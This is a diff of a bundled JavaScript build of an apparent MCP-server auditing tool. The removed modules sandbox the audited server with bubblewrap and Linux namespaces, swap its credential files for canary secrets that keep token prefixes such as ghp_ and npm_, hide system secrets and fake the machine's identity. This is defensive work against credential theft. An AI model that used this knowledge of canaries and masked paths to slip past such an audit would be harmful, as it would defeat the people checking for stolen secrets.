-function freshSecret(length, random = external_node_crypto_.randomBytes) {
-    let out = '';
-    while (out.length < length) {
-        for (const byte of random(length * 2)) {
-            if (byte < 248 && out.length < length)
-                out += BASE62[byte % 62];
-        }
-    }
-    return out;
-}
-/**
- * `.git/config` without credentials: `extraheader` keys (the persisted checkout token), whole
- * `[credential]` sections (helpers that hand out tokens), and user:password in URLs. Null when there
- * was nothing to mask.
- */
-function maskGitConfig(text) {
-    const out = [];
-    let inCredentialSection = false;
-    for (const line of text.split('\n')) {
-        const header = /^\s*\[\s*([A-Za-z0-9.-]+)/.exec(line);
-        if (header)
-            inCredentialSection = header[1].toLowerCase() === 'credential';
-        if (inCredentialSection)
-            continue;
-        const key = /^\s*([A-Za-z0-9-]+)\s*(=|$)/.exec(line)?.[1]?.toLowerCase();
-        if (key === 'extraheader')
-            continue;
-        out.push(line.replace(URL_USERINFO, '$1'));
-    }
-    const masked = out.join('\n');
-    return masked === text ? null : masked;
-}
-/**
- * A credential file of the checkout with every secret-looking value replaced by a canary. Keys,
- * comments and harmless settings (a registry URL, PORT=3000) stay, so the server still works.
- */
-function maskCredentialFile(name, text, id, secret, canaries) {
-    const plant = (value) => {
-        const planted = secret();
-        canaries.push({ id, value: planted });
-        // Keep a recognizable shape (a token prefix such as ghp_/npm_) without keeping the value.
-        const prefix = /^(ghp_|ghs_|gho_|npm_|sk-|xox[bp]-)/.exec(value)?.[1] ?? '';
-        return prefix + planted;
-    };
-    const plantUrlPasswords = (line) => line.replace(URL_PASSWORD, (_, head, value, at) => head + plant(value) + at);
-    if (name === '.git-credentials')
-        return plantUrlPasswords(text);
-    return text
-        .split('\n')
-        .map((line) => {
-        const trimmed = line.trimStart();
-        if (trimmed === '' || trimmed.startsWith('#') || trimmed.startsWith(';'))
-            return line;
-        // KEY=VALUE (.env, .npmrc — whose keys contain ':'), or `password: x` in .pypirc
-        const equals = line.indexOf('=');
-        const at = equals >= 0 ? equals : name === '.pypirc' ? line.indexOf(':') : -1;
-        if (at <= 0)
-            return plantUrlPasswords(line);
-        const key = line
-            .slice(0, at)
-            .replace(/^\s*export\s+/, '')
-            .trim();
-        const rawValue = line.slice(at + 1);
-        const value = rawValue.trim().replace(/^(['"])(.*)\1$/, '$2');
-        if (value === '' || !SECRET_KEY.test(key))
-            return plantUrlPasswords(line);
-        const lead = /^\s*/.exec(rawValue)?.[0] ?? '';
-        return `${line.slice(0, at + 1)}${lead}${plant(value)}`;
-    })
-        .join('\n');
-}
-async function findCredentialFiles(root) {
-    // Walked together, listed in the order a walk one entry at a time would find them.
-    const walk = async (dir, depth) => {
-        let entries;
-        try {
-            entries = await (0,promises_.readdir)(dir, { withFileTypes: true });
-        }
-        catch {
-            return [];
-        }
-        const found = await Promise.all(entries.map(async (entry) => {
-            const path = (0,external_node_path_.join)(dir, entry.name);
-            if (entry.isFile() && CREDENTIAL_FILES.has(entry.name))
-                return [path];
-            if (entry.isDirectory() && depth < workspace_view_MAX_DEPTH && !SKIP_DIRS.has(entry.name))
-                return walk(path, depth + 1);
-            return [];
-        }));
-        return found.flat();
-    };
-    return walk(root, 0);
-}
-const sha256 = (data) => (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
-async function place(view, relativePath, content) {
-    const target = (0,external_node_path_.join)(view.upper, relativePath);
-    await (0,promises_.mkdir)((0,external_node_path_.dirname)(target), { recursive: true });
-    await (0,promises_.writeFile)(target, content, { mode: 0o600, flag: 'wx' });
-    view.placed.set(relativePath, sha256(content));
-    view.masked.push(relativePath);
-}
-/**
- * Makes the upper/work/merged directories of one workspace under `scratch` and places the masked
- * credential files in the upper layer. Canaries planted in the masks are appended to `canaries`.
- */
-async function prepareWorkspaceView(lower, scratch, canaries, secret = () => freshSecret(40)) {
-    const view = {
-        lower,
-        upper: (0,external_node_path_.join)(scratch, 'upper'),
-        work: (0,external_node_path_.join)(scratch, 'work'),
-        merged: (0,external_node_path_.join)(scratch, 'merged'),
-        placed: new Map(),
-        masked: []
-    };
-    const gitConfig = (0,external_node_path_.join)(lower, '.git', 'config');
-    const [gitStats, credentialFiles] = await (0,settle_all/* settleAll */.j)([
-        (0,promises_.lstat)(gitConfig).catch(() => null),
-        findCredentialFiles(lower),
-        ...[view.upper, view.work, view.merged].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 }))
-    ]);
-    if (gitStats?.isFile() && gitStats.size <= MAX_CREDENTIAL_FILE_BYTES) {
-        const masked = maskGitConfig(await (0,promises_.readFile)(gitConfig, 'utf8'));
-        if (masked !== null)
-            await place(view, '.git/config', masked);
-    }
-    for (const path of credentialFiles) {
-        const stats = await (0,promises_.lstat)(path);
-        if (stats.size > MAX_CREDENTIAL_FILE_BYTES)
-            continue;
-        const relativePath = (0,external_node_path_.relative)(lower, path);
-        const name = relativePath.split('/').pop();
-        await place(view, relativePath, maskCredentialFile(name, await (0,promises_.readFile)(path, 'utf8'), `./${relativePath}`, secret, canaries));
-    }
-    return view;
-}
-/**
- * Copies the tree at `seed` into the view's upper layer under `under` (relative to the real directory),
- * skipping every path the real directory already has: the server sees a workspace worth working on, the
- * user's files win, and nothing reaches the real directory. Each placed file and directory is recorded
- * in `placed` ('' for directories), so only the server's changes to them are reported.
- */
-async function seedView(view, seed, under) {
-    // Listed and read together, then written together: a directory's parents are made with it.
-    const walk = async (rel) => {
-        const entries = await (0,promises_.readdir)((0,external_node_path_.join)(seed, rel), { withFileTypes: true });
-        const listed = await (0,settle_all/* settleAll */.j)(entries.map(async (entry) => {
-            const inSeed = (0,external_node_path_.join)(rel, entry.name);
-            const target = (0,external_node_path_.join)(under, inSeed);
-            const lowerStats = await (0,promises_.lstat)((0,external_node_path_.join)(view.lower, target)).catch(() => null);
-            if (entry.isDirectory()) {
-                const own = lowerStats === null ? [{ target, content: null }] : [];
-                return lowerStats === null || lowerStats.isDirectory() ? [...own, ...(await walk(inSeed))] : own;
-            }
-            if (entry.isFile() && lowerStats === null)
-                return [{ target, content: await (0,promises_.readFile)((0,external_node_path_.join)(seed, inSeed)) }];
-            return [];
-        }));
-        return listed.flat();
-    };
-    const placed = await walk('');
-    const dirs = new Set(placed.map(({ target, content }) => (0,external_node_path_.join)(view.upper, content === null ? target : (0,external_node_path_.dirname)(target))));
-    await (0,settle_all/* settleAll */.j)([...dirs].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 })));
-    await (0,settle_all/* settleAll */.j)(placed.flatMap(({ target, content }) => (content === null ? [] : [(0,promises_.writeFile)((0,external_node_path_.join)(view.upper, target), content, { mode: 0o644, flag: 'wx' })])));
-    for (const { target, content } of placed)
-        view.placed.set(target, content === null ? '' : sha256(content));
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/containment.ts
-
-
-
-
-
-
-
-
-
-// Prepares, as the auditor, everything the sandbox init and bwrap need to show the server its view of
-// the machine (see containment-plan.ts for what that view is), and what the later stages need to judge
-// and report it: which host places were hidden, where the server could write, where its changes are.
-const USER_NAMES = ['alex', 'sam', 'jordan', 'taylor', 'casey', 'morgan', 'jamie', 'riley', 'chris', 'dana', 'lee', 'robin'];
-const HOST_NAMES = ['devbox', 'workstation', 'laptop', 'dev-laptop', 'thinkpad', 'ubuntu', 'desktop', 'build-box', 'dev-vm'];
-const SERVER_UID = 1000;
-/** Root-only files of the host shown empty: under root and sudo the server's uid maps to root's. */
-const MASKED_EMPTY = ['/etc/shadow', '/etc/shadow-', '/etc/gshadow', '/etc/gshadow-', '/etc/sudoers'];
-/** The auditor's runtime directories on a GitHub runner, beside RUNNER_TEMP. */
-const RUNNER_ENV_DIRS = ['RUNNER_TEMP', 'RUNNER_WORKSPACE'];
-/** A plausible user and machine name, different per run: nothing the server sees names the auditor. */
-function pickIdentity(pick = external_node_crypto_.randomInt) {
-    const user = USER_NAMES[pick(USER_NAMES.length)];
-    const host = HOST_NAMES[pick(HOST_NAMES.length)];
-    return { user, hostname: pick(2) === 0 ? `${user}-${host}` : host };
-}
-const BWRAP_HINT = 'Filesystem containment needs bubblewrap: sudo apt-get install -y bubblewrap. ' +
-    'Pass --fs host (action input fs: host) to audit without it — the server then sees and can change the real filesystem.';
-const bwrapPaths = new Map();
-/** Found once per PATH and process: a fleet's audits share it. */
-function findBwrap(key) {
-    const known = bwrapPaths.get(key);
-    if (known)
-        return known;
-    const path = findOnPath('bwrap', key);
-    if (!path)
-        throw new errors/* SandboxSetupError */.Pr('bwrap (bubblewrap) was not found on PATH.', BWRAP_HINT);
-    bwrapPaths.set(key, path);
-    return path;
-}
-async function rootEntries() {
-    const entries = await (0,settle_all/* settleAll */.j)((await (0,promises_.readdir)('/')).sort().map(async (name) => {
-        const stats = await (0,promises_.lstat)(`/${name}`).catch(() => null);
-        if (!stats)
-            return null;
-        if (stats.isSymbolicLink())
-            return { name, kind: 'symlink', target: await (0,promises_.readlink)(`/${name}`) };
-        return { name, kind: stats.isDirectory() ? 'dir' : 'other' };
-    }));
-    return entries.filter((entry) => entry !== null);
-}
-async function isDirectory(path) {
-    return (await (0,promises_.lstat)(path).catch(() => null))?.isDirectory() ?? false;
-}
-async function exists(path) {
-    return (await (0,promises_.lstat)(path).catch(() => null)) !== null;
-}
-/** Overlay options are comma- and colon-separated: such paths cannot be layers. */
-function checkLayerPath(path) {
-    if (/[,:\n]/.test(path))
-        throw new errors/* ConfigurationError */.j1(`cannot show ${path} copy-on-write: the path contains ',' or ':' (use --fs host to audit without containment)`);
-}
-/**
- * Why `root` must not be a workspace, or null. A workspace is shown whole (copy-on-write): one that is a
- * home or holds one (`/`, `/home`, `~`) would show the real ~/.ssh and ~/.aws the sandbox exists to hide.
- */
-function unsafeWorkspace(root, callerHome) {
-    if (root === '/')
-        return 'it is the whole filesystem';
-    if (HOST_HOME_ROOTS.some((home) => isUnder(home, root)))
-        return 'it holds the real homes';
-    if (/^\/home\/[^/]+$/.test(root))
-        return 'it is a real home';
-    if (callerHome && callerHome !== '/' && isUnder(callerHome, root))
-        return 'it is (or holds) your home';
-    return null;
-}
-/** passwd/group with the server's user as uid/gid 1000, and the host's other entries. */
-function withUser(file, line, id, name) {
-    const kept = file.split('\n').filter((entry) => {
-        const fields = entry.split(':');
-        return entry !== '' && fields[0] !== name && fields[2] !== String(id);
-    });
-    return [...kept, line, ''].join('\n');
-}
-/** Relative directories bwrap creates under `area` to mount `targets` there (each target and its parents). */
-function mountPointsUnder(area, targets) {
-    const out = new Set();
-    for (const target of targets) {
-        if (!target.startsWith(`${area}/`))
-            continue;
-        const parts = target.slice(area.length + 1).split('/');
-        for (let i = 1; i <= parts.length; i++)
-            out.add(parts.slice(0, i).join('/'));
-    }
-    return out;
-}
-/**
- * Prepares the view. Independent steps run together; `late` is called once everything that does not
- * need its answer is made, so the seed and the trust bundle can be made meanwhile.
- */
-async function prepareContainment(input, late = async () => ({})) {
-    const bwrap = findBwrap(input.callerEnv.PATH ?? '');
-    const identity = input.identity ?? pickIdentity();
-    const home = `/home/${identity.user}`;
-    const scratch = (name) => (0,external_node_path_.join)(input.runDir, name);
-    // Workspaces: the working directory, directories the user named, and directories the command
-    // names as arguments (a filesystem server's allowed roots). Nested ones share their outer view.
-    const argPaths = await (0,settle_all/* settleAll */.j)(input.argv.slice(1).map(async (arg) => {
-        if (!arg.startsWith('/') && !arg.startsWith('.')) {
-            if (!(await exists((0,external_node_path_.resolve)(input.cwd, arg))))
-                return null;
-        }
-        const path = await (0,promises_.realpath)((0,external_node_path_.resolve)(input.cwd, arg)).catch(() => null);
-        if (path === null || path === '/')
-            return null;
-        return { path, directory: await isDirectory(path) };
-    }));
-    const argDirs = argPaths.flatMap((arg) => (arg?.directory ? [arg.path] : []));
-    const codeFiles = argPaths.flatMap((arg) => (arg && !arg.directory ? [arg.path] : []));
-    const workspaceRoots = outermost([input.cwd, ...input.workspaces, ...argDirs]);
-    for (const root of workspaceRoots) {
-        checkLayerPath(root);
-        const unsafe = unsafeWorkspace(root, input.callerEnv.HOME);
-        if (unsafe)
-            throw new errors/* ConfigurationError */.j1(`cannot show ${root} to the server as its workspace: ${unsafe}. Pass --cwd (or working-directory) with the server's own directory.`);
-        if (input.outDir === root)
-            throw new errors/* ConfigurationError */.j1(`the output directory cannot be the server's workspace: ${root}`);
-    }
-    const homeView = { lower: input.plantedHome, upper: scratch('home/upper'), work: scratch('home/work'), merged: scratch('home/merged') };
-    const privateDirs = [
-        { source: scratch('tmp'), path: '/tmp' },
-        { source: scratch('var-tmp'), path: '/var/tmp' },
-        { source: scratch('shm'), path: '/dev/shm' }
-    ];
-    const etc = scratch('etc');
-    const mask = async (path, content) => {
-        const source = (0,external_node_path_.join)(etc, path.replace(/\//g, '_'));
-        await (0,promises_.writeFile)(source, content, { mode: 0o644 });
-        return { source, path };
-    };
-    const masks = async () => {
-        await (0,promises_.mkdir)(etc, { mode: 0o755 });
-        const [passwd, group, hostname, empty, hostKeys] = await (0,settle_all/* settleAll */.j)([
-            (0,promises_.readFile)('/etc/passwd', 'utf8')
-                .catch(() => '')
-                .then((text) => mask('/etc/passwd', withUser(text, `${identity.user}:x:${SERVER_UID}:${SERVER_UID}:${identity.user}:${home}:/bin/bash`, SERVER_UID, identity.user))),
-            (0,promises_.readFile)('/etc/group', 'utf8')
-                .catch(() => '')
-                .then((text) => mask('/etc/group', withUser(text, `${identity.user}:x:${SERVER_UID}:`, SERVER_UID, identity.user))),
-            exists('/etc/hostname').then(async (found) => (found ? [await mask('/etc/hostname', `${identity.hostname}\n`)] : [])),
-            (0,settle_all/* settleAll */.j)(MASKED_EMPTY.map(async (path) => ((await exists(path)) ? [await mask(path, '')] : []))),
-            (0,promises_.readdir)('/etc/ssh')
-                .catch(() => [])
-                .then((names) => (0,settle_all/* settleAll */.j)(names.filter((name) => /^ssh_host_.*_key$/.test(name)).map((name) => mask(`/etc/ssh/${name}`, ''))))
-        ]);
-        return { system: [passwd, group, ...hostname, ...empty.flat()], hostKeys };
-    };
-    // Each workspace's masks plant their own canaries, added in the workspaces' order.
-    const viewCanaries = workspaceRoots.map(() => []);
-    const [views, , , etcMasks, entries, hiddenVarDirs] = await (0,settle_all/* settleAll */.j)([
-        (0,settle_all/* settleAll */.j)(workspaceRoots.map((root, index) => prepareWorkspaceView(root, scratch(`ws${index}`), viewCanaries[index]))),
-        (0,settle_all/* settleAll */.j)([homeView.upper, homeView.work, homeView.merged].map((dir) => (0,promises_.mkdir)(dir, { recursive: true, mode: 0o755 }))),
-        (0,settle_all/* settleAll */.j)(privateDirs.map(async (mount) => {
-            await (0,promises_.mkdir)(mount.source, { mode: 0o1777 });
-            await (0,promises_.chmod)(mount.source, 0o1777);
-        })),
-        masks(),
-        rootEntries(),
-        (0,settle_all/* settleAll */.j)(HIDDEN_VAR_DIRS.map(async (dir) => ((await isDirectory(dir)) ? [dir] : []))).then((found) => found.flat())
-    ]);
-    input.canaries.push(...viewCanaries.flat());
-    const workspaces = views.map((view) => ({ source: view.merged, path: view.lower }));
-    const draft = { rootEntries: entries, hiddenVarDirs, exposed: [], workspaces, home: { source: homeView.merged, path: home }, privateDirs };
-    // What the server's own program needs from places the view does not show: an interpreter under a
-    // home (~/.pyenv, ~/.nvm), the script's directory, and the node_modules and package.json files above
-    // it that Node resolves through. Read-only.
-    const executable = input.argv[0];
-    const wanted = [...(input.readOnly ?? [])];
-    for (const program of new Set([executable, await (0,promises_.realpath)(executable).catch(() => executable)]))
-        wanted.push(installPrefixOf(program));
-    for (const file of codeFiles) {
-        wanted.push((0,external_node_path_.dirname)(file));
-        for (let dir = (0,external_node_path_.dirname)(file); dir !== '/'; dir = (0,external_node_path_.dirname)(dir))
-            wanted.push((0,external_node_path_.join)(dir, 'node_modules'), (0,external_node_path_.join)(dir, 'package.json'));
-    }
-    // `/` would be a read-only bind of the whole host (a program in /bin has `/` as its install prefix)
-    const needed = await (0,settle_all/* settleAll */.j)(wanted.map(async (path) => (path === '/' || isVisibleInPlan(draft, path) || !(await exists(path)) ? [] : [path])));
-    draft.exposed = outermost(needed.flat());
-    for (const path of draft.exposed)
-        checkLayerPath(path);
-    const { seed, maskedFiles: lateMasks = [] } = await late();
-    const cwdView = views.find((view) => isUnder(input.cwd, view.lower));
-    if (seed !== undefined && cwdView)
-        await seedView(cwdView, seed, (0,external_node_path_.relative)(cwdView.lower, input.cwd));
-    const maskedFiles = [...etcMasks.system, ...lateMasks, ...etcMasks.hostKeys];
-    const runnerDirs = RUNNER_ENV_DIRS.map((name) => input.callerEnv[name]).filter((dir) => Boolean(dir && dir.startsWith('/')));
-    const hidden = outermost([input.outDir, input.stateDir, ...runnerDirs].map((path) => external_node_path_.posix.normalize(path))).filter(
-    // The workspace itself may sit under RUNNER_WORKSPACE; hiding that would hide the workspace.
-    (path) => !workspaceRoots.some((root) => isUnder(root, path)));
-    const plan = {
-        ...draft,
-        maskedFiles,
-        hidden,
-        cwd: input.cwd,
-        identity: { uid: SERVER_UID, gid: SERVER_UID, hostname: identity.hostname }
-    };
-    const visiblePath = (input.callerEnv.PATH ?? '')
-        .split(external_node_path_.delimiter)
-        .filter((dir) => dir.startsWith('/') && isVisibleInPlan(plan, dir) && !hidden.some((root) => isUnder(dir, root)));
-    return {
-        bwrap,
-        bwrapArgs: buildBwrapArgs(plan),
-        overlays: [...views, homeView].map(({ lower, upper, work, merged }) => ({ lower, upper, work, merged })),
-        identity,
-        home,
-        path: [...new Set(visiblePath)].join(external_node_path_.delimiter) || '/usr/local/bin:/usr/bin:/bin',
-        hiddenRoots: outermost([...HOST_HOME_ROOTS, '/run', ...hiddenVarDirs, ...hidden]),
-        auditorPaths: hidden,
-        writableRoots: [...workspaceRoots, home, ...privateDirs.map((mount) => mount.path)],
-        changeAreas: [
-            ...views.map((view) => ({ dir: view.upper, shownAt: view.lower, lower: view.lower, placed: view.placed })),
-            { dir: homeView.upper, shownAt: home, lower: homeView.lower },
-            ...privateDirs.map((mount) => ({
-                dir: mount.source,
-                shownAt: mount.path,
-                mountPoints: mountPointsUnder(mount.path, [...workspaceRoots, ...plan.exposed, ...hidden])
-            }))
-        ],
-        masked: views.flatMap((view) => view.masked.map((relativePath) => external_node_path_.posix.join(view.lower, relativePath)))
-    };
-}
-
-;// CONCATENATED MODULE: external "node:stream/promises"
-const external_node_stream_promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream/promises");
-;// CONCATENATED MODULE: ./src/sandbox/file-changes.ts
-
-
-
-
-
-const MAX_CHANGES = 10_000;
-const MAX_HASHED_BYTES = 16 * 1024 * 1024;
-const MAX_TAR_BYTES = 5 * 1024 * 1024;
-async function hashFile(path) {
-    const hash = (0,external_node_crypto_.createHash)('sha256');
-    await (0,external_node_stream_promises_namespaceObject.pipeline)((0,external_node_fs_.createReadStream)(path), hash);
-    return hash.digest('hex');
-}
-async function lstatOrNull(path) {
-    return (0,promises_.lstat)(path).catch(() => null);
-}
-/** Entries of one directory inspected at once; their changes are still taken in name order. */
-const INSPECTED_TOGETHER = 16;
-/** What one entry of an area is: a directory to walk, a change, or nothing the server did. */
-async function inspect(area, rel, lowerExists) {
-    const source = (0,external_node_path_.join)(area.dir, rel);
-    const shown = external_node_path_.posix.join(area.shownAt, rel);
-    const stats = await lstatOrNull(source);
-    if (!stats)
-        return null;
-    const lower = area.lower !== undefined && lowerExists ? await lstatOrNull((0,external_node_path_.join)(area.lower, rel)) : null;
-    if (stats.isCharacterDevice() && stats.rdev === 0) {
-        // An overlay whiteout: the server deleted what the lower layer had here.
-        return lower ? { change: { path: shown, change: 'deleted', kind: lower.isDirectory() ? 'directory' : lower.isSymbolicLink() ? 'symlink' : 'file' } } : null;
-    }
-    if (stats.isDirectory())
-        return { directory: rel, lowerIsDirectory: Boolean(lower?.isDirectory()), shown };
-    if (stats.isSymbolicLink()) {
-        const target = await (0,promises_.readlink)(source).catch(() => '');
-        const before = lower?.isSymbolicLink() && area.lower !== undefined ? await (0,promises_.readlink)((0,external_node_path_.join)(area.lower, rel)).catch(() => null) : null;
-        return before !== target ? { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'symlink', target } } : null;
-    }
-    if (!stats.isFile())
-        return { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'other' } };
-    const sha256 = stats.size <= MAX_HASHED_BYTES ? await hashFile(source).catch(() => undefined) : undefined;
-    const placed = area.placed?.get(rel);
-    if (placed !== undefined) {
-        // A mask the auditor placed: a change only if the server rewrote it.
-        if (sha256 === placed)
-            return null;
-        return { change: { path: shown, change: 'modified', kind: 'file', size: stats.size, ...(sha256 ? { sha256 } : {}) }, source };
-    }
-    if (lower?.isFile() && lower.size === stats.size && area.lower !== undefined && sha256 !== undefined) {
-        // A copy-up without a content change (chmod, touch, open for writing without writing).
-        if ((await hashFile((0,external_node_path_.join)(area.lower, rel)).catch(() => null)) === sha256)
-            return null;
-    }
-    return { change: { path: shown, change: lower ? 'modified' : 'created', kind: 'file', size: stats.size, ...(sha256 ? { sha256 } : {}) }, source };
-}
-async function scanChanges(areas) {
-    const scan = { changes: [], sources: new Map(), truncated: false };
-    const add = (change, source) => {
-        if (scan.changes.length >= MAX_CHANGES) {
-            scan.truncated = true;
-            return false;
-        }
-        scan.changes.push(change);
-        if (source)
-            scan.sources.set(change.path, source);
-        return true;
-    };
-    const walk = async (area, relative, lowerExists) => {
-        let entries;
-        try {
-            entries = (await (0,promises_.readdir)((0,external_node_path_.join)(area.dir, relative), { withFileTypes: true })).sort((a, b) => (a.name < b.name ? -1 : 1));
-        }
-        catch {
-            return;
-        }
-        for (let at = 0; at < entries.length; at += INSPECTED_TOGETHER) {
-            if (scan.truncated)
-                return;
-            const batch = entries.slice(at, at + INSPECTED_TOGETHER).map((entry) => (relative === '' ? entry.name : `${relative}/${entry.name}`));
-            for (const inspected of await Promise.all(batch.map((rel) => inspect(area, rel, lowerExists)))) {
-                if (scan.truncated)
-                    return;
-                if (inspected === null)
-                    continue;
-                if ('change' in inspected) {
-                    add(inspected.change, inspected.source);
-                    continue;
-                }
-                const { directory, lowerIsDirectory, shown } = inspected;
-                if (area.mountPoints?.has(directory)) {
-                    await walk(area, directory, false);
-                    continue;
-                }
-                if (!lowerIsDirectory && !area.placed?.has(directory) && !add({ path: shown, change: 'created', kind: 'directory' }))
-                    return;
-                await walk(area, directory, lowerIsDirectory);
-            }
-        }
-    };
-    for (const area of areas)
-        await walk(area, '', true);
-    scan.changes.sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
-    return scan;
-}
-/**
- * changes.tar: the bytes of every created or modified regular file, at the path the server saw
- * (without the leading slash), until MAX_TAR_BYTES; what does not fit is listed in the report only.
- * Returns how many files went in.
- */
-async function writeChangesTar(scan, target, maxBytes = MAX_TAR_BYTES) {
-    // loaded here: most audits change no file, and it would cost every one's start
-    const { pack } = await __nccwpck_require__.e(/* import() */ 118).then(__nccwpck_require__.t.bind(__nccwpck_require__, 6118, 19));
-    const tar = pack();
-    const output = (0,external_node_stream_promises_namespaceObject.pipeline)(tar, (0,external_node_fs_.createWriteStream)(target, { flags: 'wx', mode: 0o644 }));
-    let budget = maxBytes;
-    let files = 0;
-    let omitted = 0;
-    for (const change of scan.changes) {
-        const source = scan.sources.get(change.path);
-        if (!source || change.kind !== 'file' || change.change === 'deleted')
-            continue;
-        const size = change.size ?? 0;
-        if (size > budget) {
-            omitted += 1;
-            continue;
-        }
-        const stats = await lstatOrNull(source);
-        if (!stats?.isFile() || stats.size !== size) {
-            omitted += 1;
-            continue;
-        }
-        await new Promise((resolve, reject) => {
-            const entry = tar.entry({ name: change.path.replace(/^\/+/, ''), size, mode: 0o644, mtime: stats.mtime }, (error) => (error ? reject(error) : resolve()));
-            (0,external_node_fs_.createReadStream)(source).on('error', reject).pipe(entry);
-        });
-        budget -= size;
-        files += 1;
-    }
-    tar.finalize();
-    await output;
-    return { files, omitted };
 }
 
 ;// CONCATENATED MODULE: ./src/profile/sandbox-setup.ts
@@ -38701,356 +39545,6 @@ class SandboxSetupFilter {
         }
         return event.pid === this.serverPid || !this.setupPids.has(event.pid);
     }
-}
-
-;// CONCATENATED MODULE: ./src/profile/mcp-http-channel.ts
-// An HTTP server answers the auditor on the connections it accepted on its MCP port (relayed by the
-// sandbox init). Those writes are the MCP channel itself — the counterpart of a stdio server's stdout —
-// not behaviour: left in, every answer would show as traffic to the relay's loopback port.
-class McpHttpChannelFilter {
-    port;
-    constructor(port) {
-        this.port = port;
-    }
-    /** Whether `event` goes on to the profile: everything but sends on a connection accepted on the MCP port. */
-    keep(event) {
-        if (event.type !== 'send')
-            return true;
-        const info = event.fd.info;
-        return !(info?.kind === 'socket' && info.protocol.startsWith('TCP') && info.local?.port === this.port);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/launcher.ts
-
-
-
-
-const NAMESPACE_FLAGS = ['--pid', '--fork', '--kill-child', '--mount-proc', '--propagation', 'private'];
-function unshareFlags(method, network) {
-    const flags = [...(network === 'sandbox' ? ['--net'] : []), ...NAMESPACE_FLAGS];
-    return method === 'userns' || method === 'sudo' ? ['--user', '--map-root-user', ...flags] : flags;
-}
-/**
- * The command that starts the sandbox init inside fresh namespaces: a pid namespace (when its first
- * process exits, the kernel kills every process the server left, double-forked daemons included), a
- * mount namespace, and for network=sandbox a network namespace with nothing but loopback.
- */
-function buildLaunchCommand(method, network, init, caller) {
-    // The init's config comes on its stdin (init-handoff.ts): only the network mode is on the command line.
-    const initArgv = [init.node, init.script, network];
-    switch (method) {
-        case 'root':
-        case 'userns':
-            return { command: 'unshare', args: [...unshareFlags(method, network), '--', ...initArgv] };
-        case 'sudo':
-            // sudo only lends the privilege to create the namespaces (where unprivileged user namespaces are
-            // restricted, as on Ubuntu 24.04): setpriv goes back to the caller's uid keeping CAP_SYS_ADMIN
-            // for the unshare alone, whose user namespace maps its root to the caller. Everything inside —
-            // the init, the sink, strace, the server — is the caller outside, and files it creates are the
-            // caller's; the capability does not survive into the namespace.
-            return {
-                command: 'sudo',
-                args: [
-                    '-n',
-                    '--',
-                    'setpriv',
-                    `--reuid=${caller.uid}`,
-                    `--regid=${caller.gid}`,
-                    '--init-groups',
-                    '--inh-caps=+sys_admin',
-                    '--ambient-caps=+sys_admin',
-                    '--',
-                    'unshare',
-                    ...unshareFlags(method, network),
-                    '--',
-                    ...initArgv
-                ]
-            };
-        case 'none':
-            return { command: init.node, args: [init.script, network] };
-    }
-}
-function works(command, args) {
-    const result = (0,external_node_child_process_namespaceObject.spawnSync)(command, args, { stdio: 'ignore', timeout: 10_000 });
-    return !result.error && result.status === 0;
-}
-const SANDBOX_HINT = 'The network sandbox needs a user+network namespace (unshare -rn), root, or passwordless sudo, and iproute2. ' +
-    'In a container, run with --cap-add=SYS_ADMIN or --privileged; on Ubuntu 24.04 unprivileged user namespaces ' +
-    'may be restricted by AppArmor (sysctl kernel.apparmor_restrict_unprivileged_userns=0) — or use sudo. ' +
-    'Pass --network host to observe real traffic instead (the server then reaches the real network).';
-/**
- * Picks how to build the namespaces on this machine by trying each way once. For network=sandbox it
- * never falls back to host networking: no way → SandboxSetupError (exit 2). For network=host, 'none'
- * (no namespaces, best-effort process cleanup) is acceptable.
- */
-function detectSandboxMethod(network, caller, forced, path) {
-    // For testing one way on a machine where an earlier one would win (e.g. sudo where userns works).
-    if (forced) {
-        if (!model/* SANDBOX_METHODS */.B2.includes(forced) || (forced === 'none' && network === 'sandbox')) {
-            throw new errors/* SandboxSetupError */.Pr(`MCP_BEHAVE_SANDBOX_METHOD=${forced} is not usable with --network ${network}`, 'Use root, userns or sudo (none only with --network host).');
-        }
-        return forced;
-    }
-    // Probed once per process (a fleet's audits share the answer, and the event loop the probes would block).
-    const key = JSON.stringify([network, caller, path]);
-    const known = probedMethods.get(key);
-    if (known)
-        return known;
-    const method = probeSandboxMethod(network, caller, path);
-    probedMethods.set(key, method);
-    return method;
-}
-const probedMethods = new Map();
-function probeSandboxMethod(network, caller, path) {
-    const probe = (method) => {
-        const { command, args } = buildLaunchCommand(method, network, { node: 'true', script: '' }, caller);
-        return works(command, args.slice(0, args.lastIndexOf('--') + 1).concat('true'));
-    };
-    if (!findOnPath('unshare', path)) {
-        if (network === 'host')
-            return 'none';
-        throw new errors/* SandboxSetupError */.Pr('unshare (util-linux) was not found.', SANDBOX_HINT);
-    }
-    if (network === 'sandbox' && !findOnPath('ip', path)) {
-        throw new errors/* SandboxSetupError */.Pr('ip (iproute2) was not found; it is needed to build the network sandbox.', 'Install it: sudo apt-get install -y iproute2');
-    }
-    if (caller.uid === 0 && probe('root'))
-        return 'root';
-    if (caller.uid !== 0 && probe('userns'))
-        return 'userns';
-    if (caller.uid !== 0 && works('sudo', ['-n', 'true']) && probe('sudo'))
-        return 'sudo';
-    if (network === 'host')
-        return 'none';
-    throw new errors/* SandboxSetupError */.Pr('Could not create a network namespace for the server on this machine.', SANDBOX_HINT);
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/server-env.ts
-// The audited server gets a built environment, never the caller's. In CI the caller's environment holds
-// GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN, INPUT_* (which can carry secrets) and RUNNER_* paths: handing them
-// to the code under audit would give it real credentials to steal. Of the caller's variables only PATH
-// (when the sandbox does not supply one), LANG and LC_ALL are read. Merged in this order, a later layer
-// winning over an earlier one:
-// 1. the fixed base: HOME, USER, LOGNAME, PATH (the sandbox's `path`, else the caller's, else DEFAULT_PATH),
-//    the locale, TERM, TMPDIR, the XDG directories, and switches that keep file I/O traceable and tools quiet;
-// 2. `trustEnv`: the variables that make TLS clients trust the run's authority;
-// 3. `canaryEnv`: the planted fake credentials;
-// 4. `userEnv`: the variables the user passed explicitly.
